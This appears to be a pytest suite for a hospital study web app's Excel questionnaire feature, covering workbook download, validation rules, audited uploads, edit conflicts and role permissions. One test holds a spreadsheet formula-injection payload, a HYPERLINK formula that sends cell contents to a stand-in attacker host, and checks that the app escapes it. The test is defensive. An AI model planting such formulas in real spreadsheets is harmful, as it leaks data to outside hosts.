"""The Excel questionnaire in the web app: a hospital's workbook down, filled, and back up.

Expected cells come from the stored values and the MLL03 dictionary (its labels, minimum and
maximum); expected changes are the ones each test types.
"""

from __future__ import annotations

import datetime as dt

import pytest
from openpyxl.worksheet.worksheet import Worksheet

from followup.capture.models import AuditEntry, FormEntry, Record
from followup.study import Field
from tests.capture.conftest import Site
from tests.capture.workbook_helpers import (
    FIRST,
    book_of,
    column,
    download,
    row_of,
    saved,
    set_value,
    stored_state,
    upload,
)

ROLES = ["anonymous", "administrator", "coordinator", "other_coordinator", "data_manager",
         "statistician"]  # fmt: skip


def _expected_cell(field: Field, raw: str) -> object:
    """What the dictionary says the cell of a raw value holds."""
    if raw == "":
        return None
    if field.field_type == "yesno":
        return {"1": "Yes", "0": "No"}[raw]
    if field.choices:
        return field.label_of(raw)
    kind = field.text_type.name if field.text_type else ""
    if kind.startswith("date"):
        return dt.datetime.fromisoformat(raw)
    if kind == "integer":
        return int(raw)
    if kind == "number":
        return float(raw)
    return raw


def _ids(sheet: Worksheet) -> list[str]:
    return [str(sheet.cell(r, 1).value) for r in range(FIRST, sheet.max_row + 1)]


def test_a_hospitals_workbook_holds_exactly_its_patients_as_stored(site: Site) -> None:
    hospital = site.own.hospital
    book = book_of(download(site, hospital.code))
    records = sorted(Record.objects.filter(hospital=hospital).values_list("record_id", flat=True))
    enrollment = book["Enrollment"]
    assert _ids(enrollment) == records
    assert site.other.record_id not in str([list(s.values) for s in book.worksheets])
    dictionary = site.study.dictionary
    fields = [f for f in dictionary.form_fields("enrollment") if f.name != dictionary.record_id]
    for record_id in records:
        entry = FormEntry.objects.get(record__record_id=record_id, form="enrollment")
        row = row_of(enrollment, record_id)
        for field in fields:
            cell = enrollment[f"{column(enrollment, field.name)}{row}"]
            assert cell.value == _expected_cell(field, entry.values.get(field.name, "")), field
    follow = book["Followup"]
    for record_id in records:
        saved_instances = sorted(
            FormEntry.objects.filter(record__record_id=record_id, form="followup").values_list(
                "instance", flat=True
            )
        )
        shown = [follow.cell(r, 2).value for r in range(FIRST, follow.max_row + 1)
                 if follow.cell(r, 1).value == record_id]  # fmt: skip
        assert shown == [*saved_instances, max(saved_instances, default=0) + 1]  # one to add


def test_the_workbook_checks_what_the_dictionary_says(site: Site) -> None:
    book = book_of(download(site, site.own.hospital.code))
    sheet = book["Enrollment"]
    dictionary = site.study.dictionary
    rules = {str(r.sqref).split(":")[0].rstrip("0123456789"): r
             for r in sheet.data_validations.dataValidation}  # fmt: skip
    age = dictionary.field("age_dx_days")
    whole = rules[column(sheet, "age_dx_days")]
    assert (whole.type, whole.formula1, whole.formula2) == ("whole", age.minimum, age.maximum)
    assert rules[column(sheet, "dx_date")].type == "date"
    assert rules[column(sheet, "wbc_dx")].type == "decimal"
    choice = rules[column(sheet, "sex")]
    listed_sheet, cells = choice.formula1.split("!")
    entries = [
        c.value for row in book[listed_sheet.strip("'")][cells.replace("$", "")] for c in row
    ]
    assert entries[:2] == [c.label for c in dictionary.field("sex").choices]
    assert sheet.protection.sheet
    assert sheet["A4"].protection.locked
    assert not sheet[f"{column(sheet, 'sex')}4"].protection.locked
    note = sheet[f"{column(sheet, 'age_dx_days')}1"].comment
    assert note is not None
    assert age.note in note.text
    hint = str(sheet[f"{column(sheet, 'cr1_date')}3"].value)
    assert f"“{dictionary.field('cr1').label}” = “Yes”" in hint
    instructions = book.worksheets[0]
    assert instructions.title == "Instructions"
    text = " ".join(str(c.value) for c in instructions["A"])
    assert site.own.hospital.name in text
    assert "/questionnaires/" in text


def test_a_filled_workbook_is_saved_value_by_value_into_the_trail(site: Site) -> None:
    own = site.own
    relapsed = next(
        r for r in Record.objects.filter(hospital=own.hospital)
        if FormEntry.objects.filter(record=r, form="relapse_questionnaire").exists()
    )  # fmt: skip
    book = book_of(download(site, own.hospital.code, role="coordinator"))
    last = AuditEntry.objects.order_by("-id").values_list("id", flat=True).first() or 0
    set_value(book, "Enrollment", own.record_id, "wbc_dx", 123.4)
    set_value(book, "Enrollment", own.record_id, "cns_dx", "Unknown")  # the label of code 9
    set_value(book, "Relapse questionnaire", relapsed.record_id, "rel_site___2", "Checked")
    new = max(FormEntry.objects.filter(record=own, form="followup").values_list(
        "instance", flat=True), default=0) + 1  # fmt: skip
    set_value(book, "Followup", own.record_id, "last_contact_date", dt.datetime(2012, 5, 6), new)
    set_value(book, "Followup", own.record_id, "vital_status", "Alive", new)
    set_value(book, "Followup", own.record_id, "disease_status_last", "In complete remission", new)
    response = upload(site, saved(book), role="coordinator")
    assert response.status_code == 200, response.content.decode()[-2000:]
    records = len({own.record_id, relapsed.record_id})
    summary = f"Saved: 6 values in {records} record{'s' if records > 1 else ''} of"
    assert summary in response.content.decode()
    enrollment = FormEntry.objects.get(record=own, form="enrollment").values
    assert (enrollment["wbc_dx"], enrollment["cns_dx"]) == ("123.4", "9")
    rel = FormEntry.objects.get(record=relapsed, form="relapse_questionnaire").values
    assert rel["rel_site___2"] == "1"
    follow = FormEntry.objects.get(record=own, form="followup", instance=new).values
    assert follow == {"last_contact_date": "2012-05-06", "vital_status": "1",
                      "disease_status_last": "1"}  # fmt: skip
    trail = AuditEntry.objects.filter(pk__gt=last)
    assert {(e.record, e.form, e.field, e.new, e.instance) for e in trail} == {
        (own.record_id, "enrollment", "wbc_dx", "123.4", None),
        (own.record_id, "enrollment", "cns_dx", "9", None),
        (relapsed.record_id, "relapse_questionnaire", "rel_site___2", "1", None),
        (own.record_id, "followup", "last_contact_date", "2012-05-06", new),
        (own.record_id, "followup", "vital_status", "1", new),
        (own.record_id, "followup", "disease_status_last", "1", new),
    }
    assert {(e.user, e.reason) for e in trail} == {("coordinator", "Excel import (filled.xlsx)")}


def test_an_unchanged_workbook_changes_nothing(site: Site) -> None:
    data = download(site, site.own.hospital.code)
    before = stored_state()
    response = upload(site, data)
    assert response.status_code == 200
    assert "holds no changes" in response.content.decode()
    assert stored_state() == before


def test_a_form_saved_in_the_web_since_the_download_is_a_conflict_not_overwritten(
    site: Site,
) -> None:
    from tests.capture.conftest import post_data

    own = site.own
    book = book_of(download(site, own.hospital.code))
    web = post_data(own, "enrollment", wbc_dx="99.9", reason="from the chart")
    assert (
        site.clients["coordinator"].post(f"/records/{own.record_id}/enrollment/", web).status_code
        == 302
    )
    address = set_value(book, "Enrollment", own.record_id, "wbc_dx", 150)
    before = stored_state()
    response = upload(site, saved(book))
    assert response.status_code == 400
    page = response.content.decode()
    assert "Conflict: this form was saved in the web app by coordinator" in page
    assert f"<td>{address.rstrip('0123456789')}</td>" in page
    assert stored_state() == before
    assert FormEntry.objects.get(record=own, form="enrollment").values["wbc_dx"] == "99.9"


def test_a_web_change_to_a_row_left_as_downloaded_is_no_conflict(site: Site) -> None:
    from tests.capture.conftest import post_data

    own = site.own
    book = book_of(download(site, own.hospital.code))
    web = post_data(own, "enrollment", wbc_dx="99.9", reason="from the chart")
    site.clients["coordinator"].post(f"/records/{own.record_id}/enrollment/", web)
    new = max(FormEntry.objects.filter(record=own, form="followup").values_list(
        "instance", flat=True)) + 1  # fmt: skip
    set_value(book, "Followup", own.record_id, "last_contact_date", dt.datetime(2013, 1, 2), new)
    response = upload(site, saved(book))
    assert response.status_code == 200, response.content.decode()[-1500:]
    assert FormEntry.objects.get(record=own, form="enrollment").values["wbc_dx"] == "99.9"


def test_text_a_spreadsheet_would_run_is_written_neutralised(site: Site) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    FormEntry.objects.update_or_create(
        record=site.own,
        event="",
        form="relapse_questionnaire",
        instance=1,
        defaults={"values": {"rel_chemo_regimen": formula}},
    )
    data = download(site, site.own.hospital.code)
    sheet = book_of(data)["Relapse questionnaire"]
    cell = sheet[f"{column(sheet, 'rel_chemo_regimen')}{row_of(sheet, site.own.record_id)}"]
    assert cell.value == "'" + formula
    assert cell.data_type == "s"
    before = stored_state()
    assert upload(site, data).status_code == 200  # and reading it back is no change
    assert stored_state() == before


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"record_id,sex\nMLL03-001,2\n", "is not an Excel workbook (.xlsx)"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "an old Excel file (.xls)"),
        (None, "is damaged and cannot be read"),
    ],
)
def test_a_file_that_is_no_workbook_gets_a_clear_message(
    site: Site, content: bytes | None, message: str
) -> None:
    if content is None:  # a workbook cut short, as by a broken download
        whole = download(site, site.own.hospital.code)
        content = whole[: len(whole) // 2]
    before = stored_state()
    response = upload(site, content, name="questionnaire.xlsx")
    assert response.status_code == 400
    assert message in response.content.decode()
    assert "questionnaire.xlsx" in response.content.decode()
    assert stored_state() == before


def test_no_file_and_a_file_too_large_are_refused(
    site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    response = site.clients["data_manager"].post("/questionnaires/", {})
    assert response.status_code == 400
    assert "Choose a file to upload." in response.content.decode()
    monkeypatch.setattr("followup.capture.views.workbooks.MAX_UPLOAD", 1000)
    response = upload(site, download(site, site.own.hospital.code))
    assert response.status_code == 400
    assert "is larger than 0 MB" in response.content.decode()


# --- who may do what ----------------------------------------------------------------------


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("whose", ["own", "other"])
def test_every_role_on_the_download(site: Site, role: str, whose: str) -> None:
    record = site.own if whose == "own" else site.other
    response = site.clients[role].get(f"/questionnaires/{record.hospital.code}.xlsx")
    may = {"own": {"coordinator", "data_manager"}, "other": {"other_coordinator", "data_manager"}}
    if role == "anonymous":
        assert response.status_code == 302
    elif role in ("administrator", "statistician"):
        assert response.status_code == 403
    elif role in may[whose]:
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    else:  # another hospital's workbook is the same 404 as no hospital at all
        missing = site.clients[role].get("/questionnaires/no_such_hospital.xlsx")
        assert response.status_code == missing.status_code == 404
        assert response.content == missing.content


@pytest.mark.parametrize("role", ROLES)
def test_every_role_on_the_page(site: Site, role: str) -> None:
    response = site.clients[role].get("/questionnaires/")
    expected = {"anonymous": 302, "administrator": 403, "statistician": 403}.get(role, 200)
    assert response.status_code == expected
    if expected != 200:
        return
    page = response.content.decode()
    own, other = site.own.hospital.code, site.other.hospital.code
    links = {code: f"/questionnaires/{code}.xlsx" in page for code in (own, other)}
    assert (
        links
        == {
            "coordinator": {own: True, other: False},
            "other_coordinator": {own: False, other: True},
            "data_manager": {own: True, other: True},
        }[role]
    )


@pytest.mark.parametrize("role", ["administrator", "statistician", "anonymous"])
def test_roles_without_data_entry_cannot_upload(site: Site, role: str) -> None:
    book = book_of(download(site, site.own.hospital.code))
    set_value(book, "Enrollment", site.own.record_id, "wbc_dx", 150)
    before = stored_state()
    response = upload(site, saved(book), role=role)
    assert response.status_code == (302 if role == "anonymous" else 403)
    assert stored_state() == before


def test_a_coordinator_cannot_upload_another_hospitals_workbook(site: Site) -> None:
    book = book_of(download(site, site.other.hospital.code))
    set_value(book, "Enrollment", site.other.record_id, "wbc_dx", 150)
    before = stored_state()
    response = upload(site, saved(book), role="coordinator")
    assert response.status_code == 400
    assert "which you cannot upload here" in response.content.decode()
    assert stored_state() == before
